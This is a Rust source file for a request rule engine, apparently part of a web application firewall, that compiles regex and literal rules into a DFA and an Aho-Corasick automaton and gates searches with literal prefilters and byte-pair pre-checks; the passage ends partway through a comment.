//! The rule engine: data-driven matching of a request against the policy's rules and
//! the default ruleset shipped with the engine (`core/rules/default.json`).
//!
//! Compiled once, in [`RuleSet::new`]: every regex rule goes into ONE multi-pattern
//! DFA (regex-automata's lazy DFA: `MatchKind::All`, searched with overlapping search so
//! a match of one rule cannot hide another; its states are built on first use into a
//! fixed-size cache kept in the caller's scratch, so compiling takes a millisecond and
//! searching stays linear, without backtracking), every literal-set rule into one Aho-Corasick
//! automaton. Rules differ in their targets and transforms; a request's subjects (each
//! input, the path, the method, header names, file names) are transformed once per
//! distinct transform chain and searched once per chain with both automata. A match
//! counts only for a rule whose chain and targets are the subject's. Searching is linear
//! in the subject's length and allocates nothing once the scratch buffers have grown.
//!
//! Most values match no rule, so both automata are gated by a prefilter: every regex
//! rule's match must contain one of a finite set of literals (its prefix or suffix
//! literals, extracted from the pattern when it compiles), and a literal rule matches
//! only where one of its literals occurs. Per transform chain and subject class, one
//! SIMD-accelerated multi-literal search over those literals decides whether the
//! automata run at all; a rule without such literals makes its chain and classes always
//! run them. The gate can only skip searches that would find nothing, so verdicts are
//! those of the ungated search (a test compares both on every corpus).
//!
//! What a subject of each class goes through (the chains whose rules target it, their
//! gates, key globs, glob and content rules) is listed when the rules are compiled. A
//! short value whose chains only lowercase it is gated without transforming it, by a
//! byte-pair scan of the raw value ([`ShortGate`]); a subject all of whose gates are
//! shut, and that no glob or content rule targets, is passed over at once.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind};
use std::sync::atomic::{AtomicU64, Ordering};

use regex_automata::hybrid::dfa::{Cache, OverlappingState, DFA};
use regex_automata::nfa::thompson;
use regex_automata::util::syntax;
use regex_automata::{Input as SearchInput, MatchKind};
use regex_syntax::hir::literal::{ExtractKind, Extractor, Seq};

use crate::decode::{decode_url_repeatedly, Transform};
use crate::error::{Error, ErrorKind};
use crate::glob::glob_match;
use crate::policy::{Policy, Rule, RuleAction, MAX_RULES_DFA_BYTES};
use crate::request::{Request, Source};

/// The ruleset written by the rampart team, shipped in the engine.
pub(crate) const DEFAULT_RULES_JSON: &str = include_str!("../rules/default.json");

/// Ids 900000-999999 belong to the default ruleset.
pub(crate) fn is_default_rule_id(id: u32) -> bool {
    (900_000..1_000_000).contains(&id)
}

/// The default ruleset, parsed.
pub fn default_rules() -> Vec<Rule> {
    serde_json::from_str(DEFAULT_RULES_JSON).expect("the default ruleset is valid JSON (tested)")
}

/// What a rule can look at.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Target {
    /// Inputs of one source (any when `None`), with an optional key glob.
    Input {
        source: Option<Source>,
        key: Option<Vec<u8>>,
    },
    RequestPath,
    RequestMethod,
    /// The names of header inputs.
    HeaderNames,
}

/// The subject classes a chain is searched for (bit per class).
const CLASS_REQUEST_PATH: u16 = 1 << 8;
const CLASS_REQUEST_METHOD: u16 = 1 << 9;
const CLASS_HEADER_NAMES: u16 = 1 << 10;
/// How many subject classes there are (bits 0..8 for input sources, then the three above).
const CLASS_COUNT: usize = 11;

fn source_class(source: Source) -> u16 {
    1 << source.code()
}

impl Target {
    fn parse(text: &str) -> Result<Target, String> {
        match text {
            "request.path" => return Ok(Target::RequestPath),
            "request.method" => return Ok(Target::RequestMethod),
            "header_names" => return Ok(Target::HeaderNames),
            "input" => return Ok(Target::Input { source: None, key: None }),
            _ => {}
        }
        let (source, key) = match text.split_once(':') {
            Some((source, key)) if !key.is_empty() => (source, Some(key)),
            Some(_) => return Err(format!("target `{text}`: empty key after `:`")),
            None => (text, None),
        };
        let source = Source::from_name(source).ok_or_else(|| {
            format!(
                "unknown target `{text}`, expected `input`, `request.path`, `request.method`, `header_names` \
                 or a source (query, body, path, header, cookie, other, file) with an optional `:key`"
            )
        })?;
        // Header names are case-insensitive: keys are compared lowercased.
        let key = key.map(|k| if source == Source::Header { k.to_ascii_lowercase() } else { k.to_owned() });
        Ok(Target::Input { source: Some(source), key: key.map(String::into_bytes) })
    }

    fn classes(&self) -> u16 {
        match self {
            Target::Input { source: Some(s), .. } => source_class(*s),
            Target::Input { source: None, .. } => 0xff,
            Target::RequestPath => CLASS_REQUEST_PATH,
            Target::RequestMethod => CLASS_REQUEST_METHOD,
            Target::HeaderNames => CLASS_HEADER_NAMES,
        }
    }
}

/// Checks one rule on its own (the policy calls this for the user's rules; the default
/// ruleset is checked by a test). The message does not repeat the id.
pub(crate) fn validate_rule(rule: &Rule) -> Result<(), String> {
    if rule.id == 0 {
        return Err("id must not be 0".to_owned());
    }
    if rule.targets.is_empty() {
        return Err("targets: at least one target is needed".to_owned());
    }
    for target in &rule.targets {
        Target::parse(target).map_err(|e| format!("targets: {e}"))?;
    }
    for name in &rule.transforms {
        if Transform::from_name(name).is_none() {
            let known: Vec<&str> = Transform::ALL.iter().map(|t| t.name()).collect();
            return Err(format!("transforms: unknown transform `{name}`, expected one of {}", known.join(", ")));
        }
    }
    let m = &rule.matcher;
    let kinds = usize::from(m.regex.is_some())
        + usize::from(!m.literals.is_empty())
        + usize::from(m.glob.is_some())
        + usize::from(m.content_mismatch);
    if kinds != 1 {
        return Err("match: needs exactly one of `regex`, `literals`, `glob`, `content_mismatch`".to_owned());
    }
    if let Some(regex) = &m.regex {
        syntax::parse_with(regex, &syntax_config())
            .map_err(|e| format!("match.regex: {}", one_line(&e.to_string())))?;
        build_dfa(&[regex.as_str()]).map_err(|e| format!("match.regex: {e}"))?;
    }
    if m.literals.iter().any(String::is_empty) {
        return Err("match.literals: empty string".to_owned());
    }
    if m.content_mismatch
        && rule
            .targets
            .iter()
            .any(|t| !matches!(Target::parse(t), Ok(Target::Input { source: Some(Source::File), .. })))
    {
        return Err("match.content_mismatch: applies to `file` targets only".to_owned());
    }
    if rule.methods.iter().any(|m| m.is_empty() || !m.bytes().all(|b| b.is_ascii_alphabetic())) {
        return Err("methods: HTTP method names (letters only)".to_owned());
    }
    Ok(())
}

fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn syntax_config() -> syntax::Config {
    // Bytes, not characters: request values need not be UTF-8, and Unicode classes
    // would multiply the DFA's size. `(?i)` folds ASCII.
    syntax::Config::new().unicode(false).utf8(false)
}

/// Memory for the lazy DFA's states, per scratch (per thread). When full it is cleared
/// and refilled: the search stays linear and never gives up.
const DFA_CACHE_BYTES: usize = 2 << 20;

fn build_dfa(patterns: &[&str]) -> Result<DFA, String> {
    DFA::builder()
        .configure(
            DFA::config()
                .match_kind(MatchKind::All)
                .cache_capacity(DFA_CACHE_BYTES)
                .minimum_cache_clear_count(None)
                .skip_cache_capacity_check(true),
        )
        .syntax(syntax_config())
        .thompson(thompson::Config::new().utf8(false).nfa_size_limit(Some(MAX_RULES_DFA_BYTES)))
        .build_many(patterns)
        .map_err(|e| {
            let text = one_line(&e.to_string());
            let source = std::error::Error::source(&e).map(|s| one_line(&s.to_string())).unwrap_or_default();
            if [&text, &source].iter().any(|t| t.contains("size limit") || t.contains("exceeded limit")) {
                format!(
                    "compiles to an automaton larger than the limit of {} MiB; simplify it",
                    MAX_RULES_DFA_BYTES >> 20
                )
            } else if source.is_empty() {
                text
            } else {
                format!("{text}: {source}")
            }
        })
}

#[derive(Debug)]
enum Matcher {
    Regex,
    Literals,
    Glob(Vec<u8>),
    ContentMismatch,
}

#[derive(Debug)]
struct CompiledRule {
    id: u32,
    action: Option<RuleAction>,
    targets: Vec<Target>,
    chain: usize,
    matcher: Matcher,
    /// Uppercase method names; empty = any.
    methods: Vec<Vec<u8>>,
}

/// What [`RuleSet::search_chain`] runs: the automata when `open` (the gate's pre-check
/// already `decided` it, or the literal search still has to), unless not `prefilter`.
#[derive(Clone, Copy, Debug)]
struct Search {
    gate: Gate,
    open: bool,
    decided: bool,
    prefilter: bool,
}

/// A subject of one request that rules may target.
#[derive(Clone, Copy, Debug)]
struct Subject<'a> {
    class: u16,
    value: &'a [u8],
    /// The input it comes from, for input subjects.
    input: Option<usize>,
    source: Option<Source>,
    key: &'a [u8],
}

impl CompiledRule {
    fn applies_to(&self, subject: &Subject<'_>, method: &[u8]) -> bool {
        if !self.methods.is_empty() && !self.methods.iter().any(|m| m.eq_ignore_ascii_case(method)) {
            return false;
        }
        self.targets.iter().any(|target| match target {
            Target::RequestPath => subject.class == CLASS_REQUEST_PATH,
            Target::RequestMethod => subject.class == CLASS_REQUEST_METHOD,
            Target::HeaderNames => subject.class == CLASS_HEADER_NAMES,
            Target::Input { source, key } => {
                let Some(subject_source) = subject.source.filter(|_| subject.class & 0xff != 0) else {
                    return false;
                };
                source.is_none_or(|s| s == subject_source)
                    && key.as_deref().is_none_or(|k| {
                        if subject_source == Source::Header {
                            glob_match_ignore_case(k, subject.key)
                        } else {
                            glob_match(k, subject.key)
                        }
                    })
            }
        })
    }
}

/// Header names up to this length are compared to key globs up to ASCII case (longer
/// ones as they are).
const LOWERCASED_KEY_LEN: usize = 128;

fn glob_match_ignore_case(pattern: &[u8], text: &[u8]) -> bool {
    // Header names are short: compare a lowercased copy on the stack.
    let mut buf = [0u8; LOWERCASED_KEY_LEN];
    if text.len() > buf.len() {
        return glob_match(pattern, text);
    }
    for (slot, b) in buf.iter_mut().zip(text) {
        *slot = b.to_ascii_lowercase();
    }
    glob_match(pattern, &buf[..text.len()])
}

/// The compiled rules of one engine.
#[derive(Debug)]
pub(crate) struct RuleSet {
    rules: Vec<CompiledRule>,
    dfa: Option<DFA>,
    /// Identifies this rule set, so a scratch's DFA cache is rebuilt for another engine.
    id: u64,
    /// DFA pattern id -> rule index.
    dfa_rules: Vec<usize>,
    literals: Option<AhoCorasick>,
    /// Aho-Corasick pattern id -> rule index.
    literal_rules: Vec<usize>,
    /// Distinct transform chains, and the subject classes each is needed for.
    chains: Vec<(Vec<Transform>, u16)>,
    /// Per subject class (its bit's index), the chains a subject of the class goes
    /// through, worked out once here so that evaluating a subject walks no rules.
    plans: Vec<Vec<ChainPlan>>,
    /// The literal automata of the gates.
    gate_automata: Vec<LiteralSearch>,
    /// The byte tables of the gates' scalar pre-check (see [`ShortGate`]).
    short_gates: Vec<ShortGate>,
    /// The pair tables of the short gates, one per literal set.
    gate_pairs: Vec<PairTable>,
    /// Per subject class, what tells without walking its plans whether its gates are
    /// shut.
    fast_gates: [FastGate; CLASS_COUNT],
}

/// How [`RuleSet::gates_closed`] decides for a subject class.
#[derive(Clone, Copy, Debug)]
enum FastGate {
    /// By walking the class's plans.
    Walk,
    /// One chain at most, without glob or content rules: by the short pre-check of its
    /// gate for a subject whose key its key globs match (`keyed`) or another one
    /// (`unkeyed`); `None` when no rule is to be searched for.
    Short { keyed: Option<usize>, unkeyed: Option<usize> },
}

/// What a subject of one class needs from one transform chain whose rules target the
/// class.
#[derive(Debug)]
struct ChainPlan {
    chain: usize,
    /// When the automata need to run for a subject whose key one of `key_globs`
    /// matches, or for any subject when there are none.
    gate: Gate,
    /// The gate of a subject whose key matches none of `key_globs`: without the rules
    /// that target only inputs of certain keys (the scanner names of
    /// `header:user-agent` need not open the gate of every header).
    unkeyed_gate: Gate,
    /// The key globs of the rules that target only inputs of certain keys.
    key_globs: Vec<KeyGlob>,
    /// The glob and content-mismatch rules (neither automaton finds them) that target
    /// the class.
    others: Vec<usize>,
}

impl ChainPlan {
    /// The gate of a subject with this key.
    fn gate_for(&self, key: &[u8]) -> Gate {
        if self.key_globs.is_empty() || self.key_globs.iter().any(|k| k.matches(key)) {
            self.gate
        } else {
            self.unkeyed_gate
        }
    }
}

/// A key glob of a rule's target (lowercase for headers).
#[derive(Debug)]
struct KeyGlob {
    glob: Vec<u8>,
    header: bool,
    /// No `*`: a comparison decides.
    literal: bool,
}

impl KeyGlob {
    fn new(header: bool, glob: Vec<u8>) -> KeyGlob {
        KeyGlob { literal: !glob.contains(&b'*'), glob, header }
    }

    /// As [`CompiledRule::applies_to`] matches keys.
    #[inline(never)]
    fn matches(&self, key: &[u8]) -> bool {
        match (self.header, self.literal) {
            (true, true) if key.len() <= LOWERCASED_KEY_LEN => key.eq_ignore_ascii_case(&self.glob),
            (true, false) => glob_match_ignore_case(&self.glob, key),
            (false, false) => glob_match(&self.glob, key),
            (_, true) => key == self.glob.as_slice(),
        }
    }
}

/// Whether the DFA and the literal automaton can match a subject of one class after one
/// transform chain.
#[derive(Clone, Copy, Debug)]
enum Gate {
    /// No regex or literal rule of the chain targets the class.
    Never,
    /// A regex rule of the chain targeting the class has no required literals.
    Always,
    /// Only when one of these literals (ASCII-lowercased) occurs in the ASCII-lowercased
    /// value: every match of every regex or literal rule of the chain targeting the class
    /// contains one of them, up to ASCII case. The search looks for a short window of
    /// each (see [`rare_windows`]), case-sensitive on lowercased text (Teddy cannot fold
    /// case). `search` indexes the gates' searchers; `short`, when the chain allows it,
    /// the scalar pre-check run instead of the search on short values.
    Literals { search: usize, short: Option<usize> },
}

/// Values up to this length are gated by the scalar pre-check of [`ShortGate`]: below
/// it, setting up the SIMD search and lowercasing a copy cost more than one table lookup
/// per byte.
const SHORT_GATE_LEN: usize = 256;

/// In a [`ShortGate`]'s tables: bits 0-5 are groups of anchor pairs (a pair `a`, `b` of
/// group `g` sets bit `g` of `first[a]` and of `second[b]`, either ASCII case);
const PAIR_GROUPS: u8 = 0x3f;
/// `first['/']` and `second['/']` when a step of the chain (path normalisation) may
/// change a value holding `//`;
const CHANGES_IF_DOUBLED: u8 = 0x40;
/// in `first`, a byte that decides on its own (a one-byte window, or a byte a step of
/// the chain other than lowercasing may change); in `second`, every byte and the end.
const ALONE: u8 = 0x80;

/// A gate's pre-check on the raw value, for chains whose steps other than lowercasing
/// leave a value without certain bytes as it is (URL decoding without `%`, removing
/// NULs without a NUL, path normalisation without `.`, `\` or `//`, ...). Such a value,
/// transformed, is the value itself up to ASCII case, so a gate's window occurs in it
/// (lowercased) only where the window's anchor pair (see [`window_anchor`]) occurs in
/// the raw value up to case. Two tables say, per byte, which groups of anchor pairs it
/// starts and ends: a value where no byte starts a group the next one ends, nearly
/// every value, is decided by two lookups per byte, eight bytes at a time. Where one
/// does, the anchor pair is looked up and the windows holding it are compared in place,
/// up to case. A byte the chain may change leaves only the usual way to tell
/// (transform, then search).
#[derive(Debug)]
struct ShortGate {
    first: [u8; 256],
    second: [u8; 256],
    /// The screen: true for the rarer byte of each anchor pair (either case) and for a
    /// byte that decides alone or that the chain may change. Eight bytes none of which
    /// (nor the next) it marks start no pair worth the two tables' look.
    screen: [bool; 256],
    /// Whether the screen is worth its lookups: when it marks letters, digits other than
    /// `0` or the space, nearly every eight bytes pass it.
    screened: bool,
    /// The bytes the chain may change.
    changes: [bool; 256],
    pairs: usize,
}

/// The anchor pairs the [`ShortGate`]s look for, and the windows holding each.
#[derive(Debug)]
struct PairTable {
    /// Bit `a << 8 | b` is set when `a`, `b` is an anchor pair (either ASCII case).
    pairs: Box<[u64; 1024]>,
    /// The anchor pairs of the windows (lowercase, `a << 8 | b`), sorted.
    keys: Vec<u16>,
    /// Per slot of anchor pairs ([`third_slot`]), the bytes (lowercase) that follow the
    /// pair in its windows, or every byte when a window ends with its pair: most pairs
    /// in ordinary text that share an anchor pair's bytes (`.com` for `.cla`) are told
    /// apart by their next byte, before a search for the windows.
    thirds: Box<[[u64; 4]; THIRD_SLOTS]>,
    /// For each of `keys`, the offset of the pair in its window, and the window
    /// (lowercase).
    windows: Vec<(usize, Vec<u8>)>,
    /// The windows the tables hold.
    anchored: Vec<Vec<u8>>,
    /// When many windows are anchored on letters, digits or spaces (as the scanner names
    /// of the user agent rule are), which the tables would meet in nearly every word:
    /// a SIMD search for them in the lowercased value instead.
    words: Option<aho_corasick::packed::Searcher>,
}

/// The slots of [`PairTable::thirds`].
const THIRD_SLOTS: usize = 128;

/// The slot of [`PairTable::thirds`] of an anchor pair (lowercase, `a << 8 | b`): the top
/// bits of a multiplicative hash, which spread the pairs of a table over every slot.
fn third_slot(pair: u16) -> usize {
    (u32::from(pair).wrapping_mul(0x9e37_79b1) >> 24) as usize % THIRD_SLOTS
}

/// From this many windows anchored in words on, they are searched for apart (see
/// [`PairTable::words`]).
const WORD_WINDOWS: usize = 8;

/// Whether a window's anchor is made of bytes common in words.
fn anchored_in_words(window: &[u8]) -> bool {
    window_anchor(window).is_some_and(|i| window[i..i + 2].iter().all(|&b| b.is_ascii_alphanumeric() || b == b' '))
}

/// How common a byte is in ordinary request values (lower is rarer): letters, spaces
/// and digits are everywhere, a few punctuation bytes in names, numbers and domains;
/// brackets, `$`, `<`, control and non-ASCII bytes are rare. Letters are ranked by their
/// frequency in English.
fn byte_commonness(b: u8) -> u32 {
    match b.to_ascii_lowercase() {
        b'e' | b't' | b'a' | b'o' | b'i' | b'n' | b's' | b'r' | b'h' | b'l' | b' ' => 12,
        b'd' | b'c' | b'u' | b'm' | b'f' | b'p' | b'g' | b'w' | b'y' | b'b' => 11,
        b'a'..=b'z' => 10,
        b'0'..=b'9' => 8,
        b'.' | b',' | b'-' | b'/' | b'_' => 7,
        b':' | b';' | b'=' | b'&' | b'?' | b'+' | b'\'' | b'"' | b'@' | b'!' | b'*' | b'#' | b'%' => 4,
        b'(' | b')' => 3,
        _ => 1,
    }
}

/// Where a [`ShortGate`] looks for a window of two bytes or more: the offset of its
/// pair of bytes in a row least likely in ordinary text (rarest as a pair, then by its
/// bytes), since any piece of a window occurs wherever the window does; `None` for a
/// one-byte window.
fn window_anchor(window: &[u8]) -> Option<usize> {
    (0..window.len().saturating_sub(1)).min_by_key(|&i| {
        let (a, b) = (window[i], window[i + 1]);
        // Then by its first byte: a pair the screen of [`ShortGate::is_open`] meets
        // only at a rare byte (`:1` rather than `o:`) leaves more of a value unlooked at.
        let (ca, cb) = (byte_commonness(a), byte_commonness(b));
        (std::cmp::Reverse(pair_rarity(a, b)), ca.min(cb), ca, i)
    })
}

fn lower_pair(a: u8, b: u8) -> u16 {
    u16::from(a.to_ascii_lowercase()) << 8 | u16::from(b.to_ascii_lowercase())
}

/// How unusual two bytes in a row are in ordinary text: letters, digits and spaces run
/// together everywhere, `.` or `-` next to a letter in names and domains; a letter next
/// to a digit is rarer, punctuation and control bytes rarer still.
fn pair_rarity(a: u8, b: u8) -> u32 {
    let class = |c: u8| match c {
        b'a'..=b'z' | b'A'..=b'Z' => 0,
        b'0'..=b'9' => 1,
        b' ' => 2,
        b'.' | b',' | b'-' | b'/' | b'_' => 3,
        _ => 4,
    };
    match (class(a), class(b)) {
        (4, 4) => 8,
        (4, _) | (_, 4) => 6,
        (0, 1) | (1, 0) => 4,
        (3, 3) => 3,
        (3, _) | (_, 3) => 2,
        _ => 0,
    }
}

impl PairTable {
    fn new(windows: &[Vec<u8>]) -> PairTable {
        let (words, others): (Vec<Vec<u8>>, Vec<Vec<u8>>) = windows.iter().cloned().partition(|w| anchored_in_words(w));
        let search = (words.len() >= WORD_WINDOWS)
            .then(|| {
                aho_corasick::packed::Config::new()
                    .match_kind(aho_corasick::packed::MatchKind::LeftmostFirst)
                    .builder()
                    .extend(words.iter().map(|w| w.to_ascii_lowercase()))
                    .build()
            })
            .flatten();
        let windows = if search.is_some() { others } else { windows.to_vec() };
        let mut table = PairTable {
            pairs: Box::new([0; 1024]),
            keys: Vec::new(),
            thirds: Box::new([[0; 4]; THIRD_SLOTS]),
            windows: Vec::new(),
            anchored: windows.clone(),
            words: search,
        };
        let mut anchored = Vec::new();
        for window in &windows {
            let Some(start) = window_anchor(window) else { continue };
            let (a, b) = (window[start], window[start + 1]);
            for a in [a.to_ascii_lowercase(), a.to_ascii_uppercase()] {
                for b in [b.to_ascii_lowercase(), b.to_ascii_uppercase()] {
                    let pair = usize::from(a) << 8 | usize::from(b);
                    table.pairs[pair >> 6] |= 1 << (pair & 63);
                }
            }
            let slot = &mut table.thirds[third_slot(lower_pair(a, b))];
            match window.get(start + 2) {
                Some(&c) => {
                    for c in [c.to_ascii_lowercase(), c.to_ascii_uppercase()] {
                        slot[usize::from(c >> 6)] |= 1 << (c & 63);
                    }
                }
                None => *slot = [u64::MAX; 4],
            }
            anchored.push((lower_pair(a, b), start, window.to_ascii_lowercase()));
        }
        anchored.sort();
        (table.keys, table.windows) = anchored.into_iter().map(|(key, start, window)| (key, (start, window))).unzip();
        table
    }

    #[inline]
    fn has(&self, a: u8, b: u8) -> bool {
        let pair = usize::from(a) << 8 | usize::from(b);
        self.pairs[pair >> 6] >> (pair & 63) & 1 != 0
    }

    /// Does a window whose anchor pair is `a`, `b` at `at` occur there, up to ASCII case?
    fn window_at(&self, value: &[u8], at: usize, a: u8, b: u8) -> bool {
        if !self.has(a, b) {
            return false;
        }
        let pair = lower_pair(a, b);
        if let Some(&c) = value.get(at + 2) {
            if self.thirds[third_slot(pair)][usize::from(c >> 6)] >> (c & 63) & 1 == 0 {
                return false;
            }
        }
        let first = self.keys.partition_point(|&p| p < pair);
        let count = self.keys[first..].iter().take_while(|&&p| p == pair).count();
        self.windows[first..first + count].iter().any(|(offset, window)| {
            at.checked_sub(*offset)
                .and_then(|start| value.get(start..start + window.len()))
                .is_some_and(|piece| piece.iter().zip(window).all(|(x, y)| x.to_ascii_lowercase() == *y))
        })
    }
}

impl ShortGate {
    /// The pre-check of `windows` (lowercase, as searched) for a chain, or `None` when a
    /// step of the chain may change any value or a window is empty.
    fn new(chain: &[Transform], windows: &[Vec<u8>], pairs: usize) -> Option<ShortGate> {
        let mut gate = ShortGate {
            first: [0; 256],
            second: [ALONE; 256],
            screen: [false; 256],
            screened: true,
            changes: [false; 256],
            pairs,
        };
        for &t in chain {
            let changed_at: &[u8] = match t {
                Transform::Lowercase => continue, // the tables match either case
                Transform::NormalizePath => {
                    // It leaves a path without `.` or `..` segments, backslashes and
                    // empty segments as it is (see `normalize_path`).
                    gate.first[usize::from(b'/')] |= CHANGES_IF_DOUBLED;
                    gate.second[usize::from(b'/')] |= CHANGES_IF_DOUBLED;
                    b".\\"
                }
                _ => changed_only_at(t)?,
            };
            for &b in changed_at {
                gate.first[usize::from(b)] |= ALONE;
                gate.changes[usize::from(b)] = true;
            }
        }
        // Anchor pairs with the same first byte share a group; groups are dealt out in
        // turn, so a byte that starts pairs of one group rarely meets one that ends a
        // pair of the same group by chance.
        let mut firsts: Vec<u8> = Vec::new();
        for window in windows {
            if window.is_empty() {
                return None;
            }
            let Some(start) = window_anchor(window) else {
                for b in [window[0].to_ascii_lowercase(), window[0].to_ascii_uppercase()] {
                    gate.first[usize::from(b)] |= ALONE;
                }
                continue;
            };
            let (a, b) = (window[start].to_ascii_lowercase(), window[start + 1]);
            let group = match firsts.iter().position(|&f| f == a) {
                Some(i) => i,
                None => {
                    firsts.push(a);
                    firsts.len() - 1
                }
            } % 6;
            for a in [a, a.to_ascii_uppercase()] {
                gate.first[usize::from(a)] |= 1 << group;
            }
            for b in [b.to_ascii_lowercase(), b.to_ascii_uppercase()] {
                gate.second[usize::from(b)] |= 1 << group;
            }
            let rarer = if byte_commonness(b) < byte_commonness(a) { b } else { a };
            for r in [rarer.to_ascii_lowercase(), rarer.to_ascii_uppercase()] {
                gate.screen[usize::from(r)] = true;
            }
        }
        for b in 0..=255u8 {
            if gate.first[usize::from(b)] & (ALONE | CHANGES_IF_DOUBLED) != 0 || gate.changes[usize::from(b)] {
                gate.screen[usize::from(b)] = true;
            }
        }
        gate.screened = !(0..=255u8).any(|b| {
            gate.screen[usize::from(b)] && (b.is_ascii_alphabetic() || b == b' ' || b"123456789".contains(&b))
        });
        Some(gate)
    }

    /// Whether the gate is open for `value`, or `None` when a byte the chain may change
    /// leaves only the usual way to tell. Out of line, so that the evaluation of a
    /// subject around it keeps few registers to save.
    #[inline(never)]
    fn is_open(&self, pairs: &PairTable, value: &[u8]) -> Option<bool> {
        match self.pairs_open(pairs, value) {
            Some(false) => {}
            decided => return decided,
        }
        let Some(words) = &pairs.words else { return Some(false) };
        Self::words_open(words, value)
    }

    /// Whether one of `words` occurs in the short `value` up to case. Out of line, so that
    /// [`ShortGate::is_open`] keeps a small frame for the gates without words.
    #[inline(never)]
    fn words_open(words: &aho_corasick::packed::Searcher, value: &[u8]) -> Option<bool> {
        // No byte the chain may change: the transformed value is this one up to case.
        let mut lower = [0u8; SHORT_GATE_LEN];
        let lower = lower.get_mut(..value.len())?;
        lower.copy_from_slice(value);
        lower.make_ascii_lowercase();
        Some(words.find(lower).is_some())
    }

    /// [`ShortGate::is_open`] for the windows of the pair tables.
    fn pairs_open(&self, pairs: &PairTable, value: &[u8]) -> Option<bool> {
        let (first, second) = (&self.first, &self.second);
        let f = |b: u8| first[usize::from(b)];
        let s = |b: u8| second[usize::from(b)];
        let screen = &self.screen;
        let r = |b: u8| screen[usize::from(b)];
        let mut at = 0;
        // Pairs of bytes in no group, nearly all of them, cost two lookups, an `and` and
        // an `or`; with a screen, eight bytes without a rare byte cost one lookup each.
        while let Some(c) = value.get(at..at + 9) {
            if self.screened
                && !(r(c[0]) | r(c[1]) | r(c[2]) | r(c[3]) | r(c[4]) | r(c[5]) | r(c[6]) | r(c[7]) | r(c[8]))
            {
                at += 8;
                continue;
            }
            let any = f(c[0]) & s(c[1])
                | f(c[1]) & s(c[2])
                | f(c[2]) & s(c[3])
                | f(c[3]) & s(c[4])
                | f(c[4]) & s(c[5])
                | f(c[5]) & s(c[6])
                | f(c[6]) & s(c[7])
                | f(c[7]) & s(c[8]);
            if any != 0 {
                if let Some(decided) = self.look_closer(pairs, value, at..at + 8) {
                    return decided;
                }
            }
            at += 8;
        }
        // The last byte pairs with nothing: only whether it decides alone counts. Every
        // pair here has both bytes in the rest, so the screen tells for it as above.
        let rest = value.get(at..).unwrap_or_default();
        if self.screened && !rest.iter().any(|&b| r(b)) {
            return Some(false);
        }
        let mut any = rest.last().map_or(0, |&b| f(b) & ALONE);
        for pair in rest.windows(2) {
            any |= f(pair[0]) & s(pair[1]);
        }
        if any != 0 {
            if let Some(decided) = self.look_closer(pairs, value, at..value.len()) {
                return decided;
            }
        }
        Some(false)
    }

    /// The pairs starting in `value[range]`: `Some` when one decides (a window occurs, or
    /// a byte the chain may change), `None` when the rest of the value has to tell.
    #[cold]
    fn look_closer(&self, pairs: &PairTable, value: &[u8], range: std::ops::Range<usize>) -> Option<Option<bool>> {
        for i in range {
            let b = value[i];
            let first = self.first[usize::from(b)];
            if first == 0 {
                continue;
            }
            let next = value.get(i + 1).copied();
            let hit = first & next.map_or(ALONE, |n| self.second[usize::from(n)]);
            // Only `/` then `/` meets `CHANGES_IF_DOUBLED` in both tables.
            if self.changes[usize::from(b)] || hit & CHANGES_IF_DOUBLED != 0 {
                return Some(None);
            }
            let anchor = |n| hit & PAIR_GROUPS != 0 && pairs.window_at(value, i, b, n);
            if hit & ALONE != 0 || next.is_some_and(anchor) {
                return Some(Some(true));
            }
        }
        None
    }
}

/// Literals one of which every match of `regex` contains (so a value without any of
/// them cannot match), or `None` when there is no such finite, non-empty set. The
/// extractor's prefix (or suffix) literals are a sequence every match starts (or ends)
/// with, truncated or marked inexact where it gave up, which keeps the guarantee; a set
/// holding the empty string, or an infinite one, guarantees nothing.
fn required_literals(regex: &str) -> Option<Vec<Vec<u8>>> {
    let hir = syntax::parse_with(regex, &syntax_config()).ok()?;
    let usable = |seq: Seq| -> Option<(usize, Vec<Vec<u8>>)> {
        let literals = seq.literals()?;
        let shortest = literals.iter().map(|l| l.as_bytes().len()).min().unwrap_or(usize::MAX);
        if shortest == 0 || literals.len() > 64 {
            return None;
        }
        Some((shortest, literals.iter().map(|l| l.as_bytes().to_vec()).collect()))
    };
    let prefixes = usable(Extractor::new().kind(ExtractKind::Prefix).extract(&hir));
    let suffixes = usable(Extractor::new().kind(ExtractKind::Suffix).extract(&hir));
    match (prefixes, suffixes) {
        (Some(p), Some(s)) => Some(if s.0 > p.0 { s.1 } else { p.1 }),
        (p, s) => p.or(s).map(|(_, literals)| literals),
    }
}

/// The most literals a gate searches for with SIMD (Teddy's limit); more are searched
/// by an automaton.
const GATE_LITERALS: usize = 64;
/// A gate with more literals than this is not built: the chain and class always run the
/// rule automata (building it would cost more than it saves).
const GATE_MAX_LITERALS: usize = 256;
/// Rounds of [`shrink_literals`].
const SHRINK_ROUNDS: usize = 8;

/// Fewer, shorter literals that still occur wherever one of `literals` occurs: each
/// literal may be replaced by any of its substrings (here, a prefix shared with others),
/// and a literal that contains another is redundant. Lowercase input, lowercase output.
fn shrink_literals(mut literals: Vec<Vec<u8>>) -> Vec<Vec<u8>> {
    // Bounded work (the containment test is quadratic): a set still too large after a
    // few rounds is searched by an automaton rather than with SIMD.
    for _ in 0..SHRINK_ROUNDS {
        literals.sort();
        literals.dedup();
        let all = literals.clone();
        literals.retain(|l| !all.iter().any(|o| contains_shorter(l, o)));
        if literals.len() <= GATE_LITERALS {
            return rare_windows(literals);
        }
        // The largest group of literals sharing their first two bytes becomes their
        // longest common prefix (sorted, so a group is a run).
        let key = |l: &Vec<u8>| l.get(..2).map(<[u8]>::to_vec);
        let mut best: Option<(usize, usize)> = None;
        let mut start = 0;
        while start < literals.len() {
            let end =
                (start..literals.len()).find(|&i| key(&literals[i]) != key(&literals[start])).unwrap_or(literals.len());
            if key(&literals[start]).is_some() && end - start >= 2 && best.is_none_or(|(s, e)| end - start > e - s) {
                best = Some((start, end));
            }
            start = end;
        }
        let Some((start, end)) = best else { return literals };
        let mut prefix = literals[start].clone();
        for l in &literals[start + 1..end] {
            let common = prefix.iter().zip(l).take_while(|(a, b)| a == b).count();
            prefix.truncate(common);
        }
        literals.splice(start..end, [prefix]);
    }
    rare_windows(literals)
}

/// Does `long` contain `short`, a shorter literal?
fn contains_shorter(long: &[u8], short: &[u8]) -> bool {
    short.len() < long.len() && long.windows(short.len().max(1)).any(|w| w == short)
}

/// How unusual a byte is in ordinary text (letters, digits and spaces are everywhere).
